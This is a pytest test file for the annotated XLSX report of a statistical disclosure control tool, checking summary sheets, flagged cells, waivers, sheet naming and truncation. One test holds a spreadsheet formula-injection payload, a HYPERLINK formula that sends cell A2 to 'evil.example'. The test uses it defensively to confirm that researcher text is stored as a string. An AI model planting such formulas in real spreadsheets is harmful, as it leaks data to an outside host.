"""The annotated XLSX report: summary, fills and comments at the file's own cells, safe text."""

from __future__ import annotations

import hashlib
import io
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook

import sdc
from sdc.policy import build_policy
from sdc.reports import ReportOptions, get_reporter
from sdc.reports.xlsx import sheet_title
from tests.conftest import write_files

TABLE = "age,female,male\n18-24,7,4321\n25-34,40,28\n"
RED, AMBER = "00FFC7CE", "00FFEB9C"


def _check(root: Path, files: dict, policy: dict | None = None) -> sdc.RunResult:
    write_files(root, files)
    return sdc.check(root, build_policy(policy or {}))


def _workbook(result: sdc.RunResult):
    stream = io.BytesIO()
    get_reporter("xlsx")(result, stream, ReportOptions())
    stream.seek(0)
    return load_workbook(stream)


@pytest.fixture
def release(tmp_path: Path) -> sdc.RunResult:
    return _check(tmp_path / "rel", {
        "t.csv": TABLE,
        "wb.xlsx": {"sheets": [{"title": "Ages", "rows": [["age", "n"], ["18-24", 4],
                                                          ["25-34", 30], ["35-44", 35]]}]},
        "notes.txt": "free text\n",
        "request.toml": '[request]\ntitle = "Heart"\n[[outputs]]\npath = "t.csv"\n'
                        'description = "by age"\njustification = "needed"\n',
    }, policy={"waivers": [{"rule": "small-count", "path": "wb.xlsx", "cell": "B2",
                            "reason": "agreed"}]})


def _rows(ws) -> list[list]:
    return [[c.value for c in row] for row in ws.iter_rows()]


def test_summary_sheet(release: sdc.RunResult) -> None:
    wb = _workbook(release)
    assert wb.sheetnames == ["Summary", "Policy", "t.csv", "wb-Ages"]
    ws = wb["Summary"]
    assert ws["A2"].value == "verdict" and ws["B2"].value == "FAIL"
    assert ws["B2"].fill.fgColor.rgb == RED
    rows = _rows(ws)
    labels = {r[0]: r[1] for r in rows[:16] if r and r[0]}
    assert labels["outputs"] == 3 and labels["fail"] == 1 and labels["review"] == 2
    assert labels["policy sha256"] == release.policy.sha256
    assert labels["request title"] == "Heart"
    header = rows.index(["status", "output", "sheet", "kind", "findings", "report sheet",
                         "sha256", "description", "justification", None, None])
    outputs = {r[1]: r for r in rows[header + 1: header + 4]}
    assert outputs["t.csv"][:6] == ["fail", "t.csv", None, "frequency", 3, "t.csv"]
    assert outputs["t.csv"][7:9] == ["by age", "needed"]
    assert outputs["wb.xlsx"][:6] == ["review", "wb.xlsx", "Ages", "frequency", 1, "wb-Ages"]
    assert outputs["notes.txt"][5] == "(no table)"
    start = rows.index(["status", "rule", "name", "output", "sheet", "cell", "row label",
                        "column label", "message", "evidence", "waiver"])
    findings = [r for r in rows[start + 1:] if r and r[0]]
    small = next(r for r in findings if r[1] == "SDC101" and r[3] == "t.csv")
    assert small[5:10] == ["B2", "18-24", "female", "count 7 is below the threshold 10",
                           "count=7, threshold=10"]
    waived = next(r for r in findings if r[1] == "SDC101" and r[3] == "wb.xlsx")
    assert waived[0] == "review" and waived[10] == "agreed"
    link_cell = next(c for row in ws.iter_rows() for c in row
                     if c.value == "B2" and c.hyperlink is not None)
    assert link_cell.hyperlink.location in ("'t.csv'!B2", "'wb-Ages'!B2")


def test_policy_sheet_has_every_parameter(release: sdc.RunResult) -> None:
    rows = dict((r[0], r[1]) for r in _rows(_workbook(release)["Policy"]))
    assert rows["rules.small-count.threshold"] == "10"
    assert rows["rules.nk-dominance.rules"] == "{n=2, k=0.9}"


def test_table_sheets_keep_cells_fill_and_comment(release: sdc.RunResult) -> None:
    wb = _workbook(release)
    ws = wb["t.csv"]
    assert _rows(ws) == [["age", "female", "male"], ["18-24", 7, 4321], ["25-34", 40, 28]]
    assert ws["B2"].fill.fgColor.rgb == RED
    assert ws["B2"].comment.text.startswith(
        "SDC101 small-count (fail): count 7 is below the threshold 10\n"
        "  evidence: count=7, threshold=10")
    assert ws["A2"].fill.fill_type is None and ws["A2"].comment is None
    assert ws.freeze_panes == "B2"
    ws = wb["wb-Ages"]
    assert ws["B2"].fill.fgColor.rgb == AMBER
    assert "waived: agreed" in ws["B2"].comment.text
    assert ws.sheet_properties.tabColor.rgb.endswith("FFC000")


def test_researcher_text_is_never_a_formula(tmp_path: Path) -> None:
    payload = '=HYPERLINK("http://evil.example/?"&A2,"x")'
    result = _check(tmp_path / "r", {"t.csv": f'grp,"{payload.replace(chr(34), 2 * chr(34))}"'
                                              "\na,5\nb,50\n"})
    ws = _workbook(result)["t.csv"]
    assert ws["B1"].value == payload
    assert ws["B1"].data_type == "s"


def test_sheet_names_are_valid_and_unique() -> None:
    used: set[str] = set()
    names = [sheet_title(n, used) for n in
             ["a/b:c*d?e[f]g\\h.csv", "x" * 40, "x" * 40, "Summary", "'quoted'", "X" * 40]]
    assert len({n.casefold() for n in names}) == len(names)
    for name in names:
        assert 0 < len(name) <= 31
        assert not re.search(r"[\[\]:*?/\\]", name)
        assert not name.startswith("'") and not name.endswith("'")
    assert names[0] == "a_b_c_d_e_f_g_h.csv"
    assert names[3] == "Summary~2"


def test_many_outputs_with_clashing_names(tmp_path: Path) -> None:
    files = {f"{d}/{'long_table_name_' * 3}.csv": "grp,n\na,12\nb,25\n" for d in "abc"}
    wb = _workbook(_check(tmp_path / "r", files))
    assert len(wb.sheetnames) == 5 and len(set(wb.sheetnames)) == 5


def test_researchers_workbook_is_untouched(release: sdc.RunResult) -> None:
    source = Path(release.root) / "wb.xlsx"
    before = hashlib.sha256(source.read_bytes()).hexdigest()
    _workbook(release)
    assert hashlib.sha256(source.read_bytes()).hexdigest() == before


def test_big_tables_keep_header_and_flagged_rows(tmp_path: Path,
                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    import sdc.reports.xlsx as xlsx_report

    monkeypatch.setattr(xlsx_report, "MAX_SHEET_CELLS", 300)
    # a and b cross (b is 45..57 beside a's 50..56): no column holds the other. A b above a
    # on all 400 lines by 4 to 14 would be a whole and its part, reviewed on most rows
    rows = [f"g{i},{50 + i % 7},{45 + i % 13}" for i in range(400)]
    rows[350] = "g350,3,70"
    wb = _workbook(_check(tmp_path / "r", {"big.csv": "grp,a,b\n" + "\n".join(rows) + "\n"}))
    ws = wb["big.csv"]
    assert ws["A1"].value == "grp" and ws["B352"].value == 3
    assert ws["B352"].fill.fgColor.rgb == RED
    assert ws["A200"].value is None  # left out
    summary = [c.value for row in wb["Summary"].iter_rows() for c in row]
    assert "big.csv (truncated: 101 of 401 rows, every row with a finding kept)" in summary
